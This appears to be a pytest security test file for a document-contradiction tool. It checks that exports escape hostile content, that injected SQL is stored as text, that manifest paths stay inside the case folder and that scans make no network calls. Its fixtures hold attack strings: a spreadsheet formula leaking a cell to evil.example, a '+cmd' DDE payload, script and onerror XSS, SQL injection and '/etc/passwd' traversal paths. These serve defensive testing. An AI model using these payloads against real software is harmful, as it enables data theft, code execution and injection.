"""Hostile content and a hostile network: documents are data, never markup, formulas or SQL;
the manifest cannot reach outside the case folder; serve listens on loopback unless told;
a scan opens no connection. (Escaping of <script> in the HTML and Markdown briefs and the
review form's CSRF and password checks are in tests/export and tests/test_serve.py.)"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from contradict.errors import MetadataError
from contradict.export import export
from contradict.ingest import load_manifest

from ..conftest import write_doc
from .conftest import cli_env, hash_config, rows, run_cli

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click") the ministry said'
HOSTILE_SOURCE = "@SUM(1+1) Ministry | of <b>Truth</b>"
HOSTILE_TITLE = "'); DROP TABLE claims;--"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two documents that contradict each other, written to break every export format."""
    from contradict.pipeline import scan

    tmp = tmp_path_factory.mktemp("security")
    case = tmp / "case"
    case.mkdir()
    # .txt keeps markup literally (the Markdown reader drops tags)
    write_doc(case, "a.txt", f"{FORMULA} that 1,000 cameras will be installed in the city. The director said "
              "that +cmd|' /C calc'!A0 <img src=x onerror=alert(1)> 1,000 cameras will be installed in the city "
              "within two years.", title=HOSTILE_TITLE, source=HOSTILE_SOURCE, kind="statement", date="2019-02-09")
    write_doc(case, "b.txt", "-2+3 The impact assessment lists 8,100 cameras for the city. The assessment "
              "</td></tr><script>alert('x')</script> | --- | lists 8,100 cameras for the city.",
              title="DPIA <i>filing</i>", source="Ministry of Interior", kind="dpia", date="2020-06")
    db = tmp / "case.db"
    result = scan(case, db, hash_config())
    assert result.findings_total > 0 and result.documents_failed == 0
    return db


def test_sql_in_a_title_and_a_note_is_stored_as_text(hostile_db: Path) -> None:
    assert rows(hostile_db, "select title from documents where path = 'a.txt'") == [(HOSTILE_TITLE,)]
    finding = rows(hostile_db, "select id from findings order by id limit 1")[0][0]
    note = "'); DROP TABLE reviews;--"
    result = run_cli("review", hostile_db, finding, "--status", "confirmed", "--note", note, "--reviewer", "x'--")
    assert result.returncode == 0, result.stderr
    assert rows(hostile_db, "select note, reviewer from reviews") == [(note, "x'--")]
    found = run_cli("findings", hostile_db, "--json", "--status", "confirmed' OR '1'='1")
    assert found.returncode == 0 and found.stdout == ""  # a status is a value, not SQL


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile_db: Path) -> None:
    text = export(hostile_db, "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)  # the claim, kept, made inert
    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
    assert any(cell.startswith("'-2+3") or cell.startswith("'+cmd") for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_html_brief_has_no_markup_from_documents(hostile_db: Path) -> None:
    page = export(hostile_db, "html")
    assert isinstance(page, str)
    for raw in ("<img src=x", "<script>alert", "<b>Truth</b>", "<i>filing</i>", "</td></tr><script>",
                'href="javascript:'):
        assert raw not in page, raw
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_markdown_tables_keep_their_columns(hostile_db: Path) -> None:
    brief = export(hostile_db, "md")
    assert isinstance(brief, str)
    assert not re.search(r"(?<!\\)<(img|script>alert|b>Truth)", brief)  # escaped as \<img
    for table in _tables(brief):
        widths = {_columns(line) for line in table}
        assert len(widths) == 1, table  # a | in document text never adds a column


def _tables(markdown: str) -> list[list[str]]:
    tables: list[list[str]] = []
    current: list[str] = []
    for line in markdown.splitlines() + [""]:
        if line.startswith("|"):
            current.append(line)
        elif current:
            tables.append(current)
            current = []
    return tables


def _columns(line: str) -> int:
    cells, escaped = 1, False
    for ch in line.strip().strip("|"):
        if ch == "|" and not escaped:
            cells += 1
        escaped = ch == "\\" and not escaped
    return cells


def test_the_docx_brief_quotes_documents_as_text(hostile_db: Path) -> None:
    data = export(hostile_db, "docx")
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/document.xml").decode("utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in xml and "<img" not in xml
    assert "&lt;script&gt;" in xml and "<script" not in xml


def test_json_exports_stay_valid(hostile_db: Path) -> None:
    lines = str(export(hostile_db, "jsonl")).splitlines()
    assert lines and all(json.loads(line)["id"] for line in lines)
    json.loads(str(export(hostile_db, "claimreview")))


def test_findings_in_a_terminal_carry_no_escape_sequences(hostile_db: Path) -> None:
    shown = run_cli("findings", hostile_db)
    assert shown.returncode == 0 and "\x1b" not in shown.stdout


@pytest.mark.parametrize("key", ["../outside.txt", "a/../../outside.txt", "/etc/passwd", "C:/Windows/win.ini"])
def test_manifest_paths_cannot_leave_the_case_folder(tmp_path: Path, key: str) -> None:
    case = tmp_path / "case"
    case.mkdir()
    (case / "contradict.yaml").write_text(f'documents:\n  "{key}": {{title: Outside}}\n', encoding="utf-8")
    with pytest.raises(MetadataError) as err:
        load_manifest(case)
    assert str(err.value) == (f"{case / 'contradict.yaml'}: {key!r} points outside the case folder — name each "
                              "file by its path inside the folder, e.g. statements/2019-02-09.pdf")
    (case / "contradict.yaml").unlink()
    (case / "manifest.csv").write_text(f"file,title\n{key},Outside\n", encoding="utf-8")
    with pytest.raises(MetadataError, match="points outside the case folder"):
        load_manifest(case)


def test_serve_listens_on_loopback_unless_told_and_then_warns(monkeypatch, hostile_db: Path) -> None:  # type: ignore[no-untyped-def]
    import contradict.serve
    from contradict.cli import app

    hosts: list[str] = []
    monkeypatch.setattr(contradict.serve, "serve", lambda db, host, **kw: hosts.append(host))
    quiet = CliRunner().invoke(app, ["serve", str(hostile_db)])
    assert quiet.exit_code == 0 and hosts == ["127.0.0.1"] and "Warning" not in quiet.output
    shared = CliRunner().invoke(app, ["serve", str(hostile_db), "--host", "0.0.0.0"])
    assert shared.exit_code == 0 and hosts[-1] == "0.0.0.0"
    assert "Warning: listening on 0.0.0.0: anyone who can reach this machine can read the database." in shared.output


class NetworkUsed(AssertionError):
    pass


def test_a_scan_opens_no_connection(monkeypatch, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Every way out of the process is blocked and recorded; a scan of pages full of links,
    remote images and a refresh to another site, and of a PDF and a DOCX, uses none."""
    from contradict.pipeline import scan

    attempts: list[str] = []

    def blocked(name: str):
        def refuse(*args, **kwargs):
            attempts.append(f"{name}{args[1:2]}")
            raise NetworkUsed(f"network used: {name}")
        return refuse

    monkeypatch.setattr(socket.socket, "connect", blocked("connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", blocked("connect_ex"))
    monkeypatch.setattr(socket.socket, "sendto", blocked("sendto"))
    monkeypatch.setattr(socket, "create_connection", blocked("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", blocked("getaddrinfo"))
    case = tmp_path / "case"
    case.mkdir()
    (case / "page.html").write_text(
        '<html><head><meta http-equiv="refresh" content="0; url=http://example.com/">'
        '<link rel="stylesheet" href="https://cdn.example.com/a.css"><title>Vest</title>'
        '<base href="http://example.org/"></head><body><img src="http://example.com/x.png">'
        '<iframe src="https://example.net/"></iframe><p>The police said on '
        '<a href="http://example.com/a">Monday</a> that 1,000 cameras were installed in Belgrade.</p>'
        '</body></html>', encoding="utf-8")
    from .conftest import make_docx, make_pdf

    make_pdf(case / "filing.pdf", ["The impact assessment at https://example.com lists 8,100 cameras."])
    make_docx(case / "foi.docx", ["The ministry holds no document on the camera locations."])
    write_doc(case, "note.md", "See [the map](http://example.com/map): 800 locations.", url="https://example.com/")
    result = scan(case, tmp_path / "case.db", hash_config())
    assert result.documents_added == 4 and result.documents_failed == 0
    assert attempts == []


SITECUSTOMIZE = '''
import socket, sys
def _refuse(*args, **kwargs):
    with open(__LOG__, "a") as log:
        log.write(repr(args[1:2]) + "\\n")
    raise OSError("network disabled by the test")
socket.socket.connect = _refuse
socket.socket.connect_ex = _refuse
socket.create_connection = _refuse
socket.getaddrinfo = _refuse
'''


@pytest.mark.slow
def test_a_scan_with_the_shipped_models_opens_no_connection(tmp_path: Path) -> None:
    """The real embedding models, loaded with the Hugging Face offline switches unset: a
    process whose sockets all refuse, and a log of every attempt, which must stay empty."""
    from ..conftest import CORPUS

    hook, log = tmp_path / "hook", tmp_path / "network.log"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(SITECUSTOMIZE.replace("__LOG__", repr(str(log))), encoding="utf-8")
    env = {k: v for k, v in cli_env().items() if k not in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE")}
    env["PYTHONPATH"] = os.pathsep.join([str(hook), env.get("PYTHONPATH", "")]).rstrip(os.pathsep)
    result = subprocess.run([sys.executable, "-m", "contradict", "scan", str(CORPUS), "--db", str(tmp_path / "b.db"),
                             "-q"], capture_output=True, text=True, env=env, timeout=1200)
    assert result.returncode == 0, result.stderr
    assert not log.exists(), log.read_text()
